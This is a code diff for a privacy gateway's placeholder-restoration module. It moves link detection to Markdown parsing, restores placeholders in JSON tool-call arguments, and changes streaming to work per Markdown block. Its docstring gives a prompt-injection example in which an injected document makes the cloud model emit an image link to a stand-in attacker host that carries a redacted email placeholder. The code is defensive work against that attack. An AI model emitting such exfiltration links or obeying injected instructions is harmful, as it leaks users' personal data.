@@ -6,26 +6,27 @@ placeholders are restored in the answer, also while it streams: a piece that
 ends inside a possible placeholder is held back until the next piece decides it.
 
 A placeholder is restored only where the answer uses it as text, never inside
-something a client may fetch: a URL, a markdown link or image target, an HTML
-tag. A prompt-injected document can ask the cloud model for
+something a client may fetch: a URL, a markdown link or image target, a reference
+definition, an autolink, an HTML tag (``restore.py`` parses the answer as
+CommonMark to tell). A prompt-injected document can ask the cloud model for
 ``![](https://evil.example/?q=[EMAIL_1])``; restoring there would make the
 gateway itself write the secret into a link that a markdown client loads. Such
-a placeholder stays as it is.
+a placeholder stays as it is. In JSON (structured output, tool-call arguments)
+only string values are restored, never ids or URLs.
 """
 
 from __future__ import annotations
 
-import re
+import json
 from collections.abc import Callable
 from dataclasses import dataclass, field
 from typing import Any
 
 from hybridgate.router.privacy import PersonalDataDetector
+from hybridgate.serving import restore
+from hybridgate.serving.restore import PLACEHOLDER
 
-_PLACEHOLDER = re.compile(r"\[(?:EMAIL|IBAN|CARD|PHONE|NAME)_\d+\]")
-_LONGEST = len("[EMAIL_999]")
-_CONTEXT = 2048  # how much text before a placeholder decides whether it sits inside a link
-_LINKISH = re.compile(r"://|www\.|\]\(|\b(?:src|href|action|srcset|poster|data|formaction)\s{0,3}=|url\(", re.I)
+_LONGEST = len("[EMAIL_9999]")
 NOTE = (
     "Some values in this conversation were replaced by placeholders such as [EMAIL_1] or [NAME_1]. "
     "Keep every placeholder exactly as written wherever you need the value."
@@ -37,30 +38,39 @@ class Redaction:
     originals: dict[str, str] = field(default_factory=dict)  # placeholder -> original value
 
     def restore(self, text: str, before: str = "") -> str:
-        """``text`` with its placeholders restored where they are plain text; ``before`` is what preceded it."""
+        """``text`` with its placeholders restored where they are text; ``before`` is what preceded it."""
+        if not PLACEHOLDER.search(text):
+            return text
+        whole = before + text
+        return restore.apply(whole, restore.places(whole, self.originals), len(before))
 
-        def one(m: re.Match[str]) -> str:
-            if m.group(0) not in self.originals or in_link((before + text[: m.start()])[-_CONTEXT:]):
-                return m.group(0)
-            return self.originals[m.group(0)]
-
-        return _PLACEHOLDER.sub(one, text)
+    def restore_arguments(self, arguments: str) -> str:
+        """A tool call's arguments (a JSON document) with placeholders restored in string values that are not
+        ids or URLs; arguments that are not JSON keep their placeholders."""
+        if not PLACEHOLDER.search(arguments):
+            return arguments
+        found = restore.json_places(arguments, self.originals)
+        return arguments if found is None else restore.apply(arguments, found)
 
     @property
     def count(self) -> int:
         return len(self.originals)
 
 
+def restore_json_value(value: Any, redaction: Redaction) -> Any:
+    """A decoded JSON value (tool-call arguments, a structured answer) with placeholders restored in its string
+    values that are text and not under an id or URL key; keys, ids and URL-like strings keep them."""
+    if not redaction.count:
+        return value
+    encoded = json.dumps(value, ensure_ascii=False)
+    return json.loads(redaction.restore_arguments(encoded))
+
+
 def in_link(before: str) -> bool:
-    """Whether a placeholder that follows ``before`` sits inside a URL, a link or image target, or an HTML tag."""
-    line = before[before.rfind("\n") + 1 :]
-    token = line[max(line.rfind(" "), line.rfind("\t")) + 1 :]
-    if _LINKISH.search(token):
-        return True
-    target = line.rfind("](")
-    if target != -1 and ")" not in line[target + 2 :]:
-        return True  # inside a markdown target, spaces included: [a](<https://x/ y [EMAIL_1]>)
-    return line.rfind("<") > line.rfind(">")  # inside an HTML tag
+    """Whether a placeholder right after ``before`` would stay one (it sits in a URL, a link or image target,
+    a definition, an autolink or HTML) rather than be restored as text."""
+    probe = "[EMAIL_1]"
+    return not restore.markdown_places(before + probe, {probe: "x"})
 
 
 def with_arguments(calls: list[dict[str, Any]], change: Callable[[str], str]) -> list[dict[str, Any]]:
@@ -101,27 +111,58 @@ def redact_messages(messages: list[dict[str, Any]], detector: PersonalDataDetect
 
 
 class StreamRestorer:
-    """Restores placeholders in a stream of text pieces, holding back only what could be half a placeholder."""
+    """Restores placeholders in a stream of text pieces, with the same result as restoring the whole answer.
 
-    def __init__(self, redaction: Redaction) -> None:
+    Text is sent on at once while its Markdown block holds no placeholder; from the first placeholder on, the
+    rest of the block is held until the block is complete (a link destination or a reference definition can
+    continue on its next line), then restored as a whole. An answer that starts like JSON is held to the end.
+    """
+
+    def __init__(self, redaction: Redaction, arguments: bool = False) -> None:
+        """``arguments``: the stream is a tool call's arguments, restored as ``Redaction.restore_arguments``
+        does once complete (and not at all if they are not JSON)."""
         self.redaction = redaction
-        self._held = ""
-        self._seen = ""  # the answer's raw text so far (its tail), to tell a link from plain text
+        self._arguments = arguments
+        self._json: bool | None = True if arguments else None  # else undecided until two visible characters
+        self._block = ""  # the current top-level block
+        self._sent = 0  # how much of it went out unchanged
+        self._cutter = restore.BlockCutter()
 
     def feed(self, piece: str) -> str:
-        text = self._held + piece
-        cut = text.rfind("[")
-        if cut != -1 and "]" not in text[cut:] and len(text) - cut < _LONGEST:
-            self._held, text = text[cut:], text[:cut]
+        self._block += piece
+        if self._json is None:
+            head = self._block.lstrip()
+            if len(head) < 2 and head[:1] in ("", "["):
+                return ""
+            self._json = restore.json_start(self._block)
+        if self._json:
+            return ""
+        out: list[str] = []
+        while (cut := self._cutter.next_cut(self._block)) is not None:
+            out.append(self._finish(self._block[:cut]))
+            self._block, self._sent = self._block[cut:], 0
+        first = PLACEHOLDER.search(self._block, self._sent)
+        if first is not None:
+            upto = first.start()
         else:
-            self._held = ""
-        return self._emit(text)
+            upto = len(self._block)
+            half = self._block.rfind("[", self._sent)
+            if half != -1 and "]" not in self._block[half:] and len(self._block) - half < _LONGEST:
+                upto = half  # what could be half a placeholder waits for the next piece
+        out.append(self._block[self._sent : upto])
+        self._sent = max(self._sent, upto)
+        return "".join(out)
 
     def flush(self) -> str:
-        text, self._held = self._held, ""
-        return self._emit(text)
-
-    def _emit(self, text: str) -> str:
-        out = self.redaction.restore(text, self._seen)
-        self._seen = (self._seen + text)[-_CONTEXT:]
+        if self._json:
+            text, self._block = self._block, ""
+            return self.redaction.restore_arguments(text) if self._arguments else self.redaction.restore(text)
+        out = self._finish(self._block)
+        self._block, self._sent, self._cutter = "", 0, restore.BlockCutter()
         return out
+
+    def _finish(self, block: str) -> str:
+        """The unsent rest of a complete block, restored."""
+        if not PLACEHOLDER.search(block, self._sent):
+            return block[self._sent :]
+        return restore.apply(block, restore.markdown_places(block, self.redaction.originals), self._sent)
